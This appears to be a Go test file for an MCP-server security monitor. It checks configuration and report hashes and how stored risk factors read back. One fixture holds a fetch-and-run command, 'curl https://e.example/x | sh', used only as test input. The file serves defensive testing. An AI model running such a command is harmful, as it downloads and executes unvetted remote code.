package impl

import (
	"crypto/sha256"
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/mcpwarden/mcpwarden/db"
	"github.com/mcpwarden/mcpwarden/gen"
	"github.com/mcpwarden/mcpwarden/impl/risk"
)

// Stored configuration hashes are compared with new ones (verification holds for a hash), so the
// hand-written encoding must hash exactly what encoding/json's did.
func TestConfigHashIsTheHashItAlwaysWas(t *testing.T) {
	str := func(s string) *string { return &s }
	servers := []db.ReportServer{
		{ServerType: "@modelcontextprotocol/server-filesystem", Command: "npx -y @modelcontextprotocol/server-filesystem /home/dev", Scope: "/home/dev", EnvVars: []string{}, Transport: str("stdio")},
		{ServerType: "x<y>&z", Command: "bash -c \"curl https://e.example/x | sh\"\t\n", Scope: `C:\Users\dev`, EnvVars: []string{"Z_TOKEN", "A_KEY", "M"}},
		{ServerType: "caf\u00e9 \u2028\u2029 \x01 \xff", URL: str("https://x.example/mcp?a=1&b=2"), Transport: str("sse"), EnvVars: nil},
	}
	for i, s := range servers {
		env := slices.Clone(s.EnvVars)
		slices.Sort(env)
		b, err := json.Marshal([]any{s.ServerType, s.Command, s.Scope, env, s.Transport, s.URL})
		if err != nil {
			t.Fatal(err)
		}
		want := sha256.Sum256(b)
		if got := configHash(s); string(got) != string(want[:]) {
			t.Errorf("server %d: configHash %x, want %x (over %s)", i, got, want, b)
		}
		if !slices.Equal(servers[i].EnvVars, s.EnvVars) {
			t.Errorf("server %d: configHash reordered the server's environment", i)
		}
	}
}

// Explanations are stored without what their rules say anyway; read back, they must be the
// factors the assessment found, clipped, for every input of the risk engine's golden file
// (alone and with the other servers of their group, for the combination rules' details).
func TestStoredFactorsReadBackAsTheAssessedOnes(t *testing.T) {
	raw, err := os.ReadFile("risk/testdata/assess_golden.json")
	if err != nil {
		t.Fatal(err)
	}
	var golden struct {
		Groups []struct {
			Cases []struct {
				Input risk.Input `json:"input"`
			} `json:"cases"`
		} `json:"groups"`
	}
	if err := json.Unmarshal(raw, &golden); err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("é<>&\"", 1000)
	var sets [][]risk.Factor
	for _, g := range golden.Groups {
		inputs := make([]risk.Input, len(g.Cases))
		for i, c := range g.Cases {
			inputs[i] = c.Input
			sets = append(sets, risk.AssessAll([]risk.Input{c.Input})[0].Factors)
		}
		for _, a := range risk.AssessAll(inputs) {
			sets = append(sets, a.Factors)
		}
	}
	sets = append(sets, []risk.Factor{
		{ID: "MCPW-GONE", Severity: risk.Low, Title: "A rule a later version dropped", Detail: "d", Evidence: "e"},
		{ID: risk.FactorMalicious, Severity: risk.Critical, Title: long, Detail: long, Evidence: long},
	}, nil)
	compacted := 0
	for i, fs := range sets {
		stored := StoredFactors(fs)
		got, err := expandFactors(stored)
		if err != nil {
			t.Fatalf("set %d: %v (%s)", i, err, stored)
		}
		want := make([]gen.RiskFactor, min(len(fs), maxFactors))
		full := 2
		for j, f := range fs[:len(want)] {
			want[j] = gen.RiskFactor{Id: f.ID, Severity: gen.RiskLevel(f.Severity), Title: clipText(f.Title, 500),
				Detail: clipText(f.Detail, 4000), Evidence: clipText(f.Evidence, 4000)}
			full += len(f.Title) + len(f.Detail)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("set %d read back differs:\n got %+v\nwant %+v\nstored %s", i, got, want, stored)
		}
		if len(fs) > 0 && len(stored) < full/2 {
			compacted++
		}
	}
	if compacted < len(sets)/2 {
		t.Errorf("only %d of %d explanations stored in less than half their titles' and details' bytes", compacted, len(sets))
	}
	// Explanations stored whole, before StoredFactors left anything out, read as they are.
	old := `[{"id":"MCPW-FS-ROOT","severity":"critical","title":"T","detail":"D","evidence":"/"}]`
	got, err := expandFactors([]byte(old))
	if err != nil || len(got) != 1 || got[0].Title != "T" || got[0].Detail != "D" {
		t.Errorf("a whole stored factor read back as %+v, %v", got, err)
	}
}

// The argument vector enters a server's configuration hash only when its command line does not
// say it, so that agents which start reporting vectors change no hash where the command line
// already said everything.
func TestConfigHashTakesArgsOnlyWhenTheCommandLineDoesNotSayThem(t *testing.T) {
	stdio := "stdio"
	base := db.ReportServer{ServerType: "@modelcontextprotocol/server-filesystem",
		Command: "npx -y @modelcontextprotocol/server-filesystem /home/me/ my notes", Scope: "/home/me/ my notes",
		EnvVars: []string{}, Transport: &stdio}
	with := func(args ...string) db.ReportServer {
		s := base
		s.Args = args
		return s
	}
	sevenElements := func(s db.ReportServer) []byte {
		b, err := json.Marshal([]any{s.ServerType, s.Command, s.Scope, s.EnvVars, s.Transport, s.URL, s.Args})
		if err != nil {
			t.Fatal(err)
		}
		h := sha256.Sum256(b)
		return h[:]
	}
	old := configHash(base)
	spaced := with("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/ my notes")
	split := with("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/", "my", "notes")
	clipped := with("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/", "my", "notes", "and more")
	for _, tc := range []struct {
		name string
		s    db.ReportServer
		want []byte
	}{
		{"the command split at spaces hashes as the command alone", split, old},
		{"a vector with an argument holding a space is hashed too", spaced, sevenElements(spaced)},
		{"a vector longer than the command is hashed too", clipped, sevenElements(clipped)},
		{"an empty vector is no vector", with(), old},
	} {
		if got := configHash(tc.s); string(got) != string(tc.want) {
			t.Errorf("%s: configHash %x, want %x", tc.name, got, tc.want)
		}
	}
	if string(configHash(spaced)) == string(configHash(split)) {
		t.Error("two vectors that join to the same command line hash alike")
	}
}

// The report hash tells a report whose vectors changed from the one before, and hashes a report
// without vectors as it always has: the agents' stored report hashes stay valid.
func TestReportHashTakesArgsWhenReported(t *testing.T) {
	s := &Server{cfg: Config{Version: "v"}}
	yes, path := true, "/c/mcp.json"
	srv := db.ReportServer{ServerName: "notes", ServerType: "@modelcontextprotocol/server-filesystem",
		Command: "npx -y @modelcontextprotocol/server-filesystem /home/me/ my notes", Scope: "/home/me/ my notes",
		EnvVars: []string{"HOME"}, ConfigPath: &path, Enabled: &yes}
	h := sha256.New()
	h.Write([]byte("report/v2\x00v\x00"))
	line, err := json.Marshal([]any{srv.ServerName, srv.ServerType, srv.Command, srv.Scope, srv.EnvVars,
		srv.Client, srv.ConfigPath, srv.Transport, srv.URL, srv.Enabled})
	if err != nil {
		t.Fatal(err)
	}
	h.Write(append(line, '\n'))
	if got, want := s.reportHash([]db.ReportServer{srv}), h.Sum(nil); string(got) != string(want) {
		t.Errorf("report without vectors: hash %x, want %x", got, want)
	}
	spaced, split := srv, srv
	spaced.Args = []string{"npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/ my notes"}
	split.Args = strings.Fields(srv.Command)
	hashes := map[string]bool{}
	for _, r := range []db.ReportServer{srv, spaced, split} {
		hashes[string(s.reportHash([]db.ReportServer{r}))] = true
	}
	if len(hashes) != 3 {
		t.Errorf("%d distinct report hashes for no vector, and two vectors of one command line, want 3", len(hashes))
	}
}
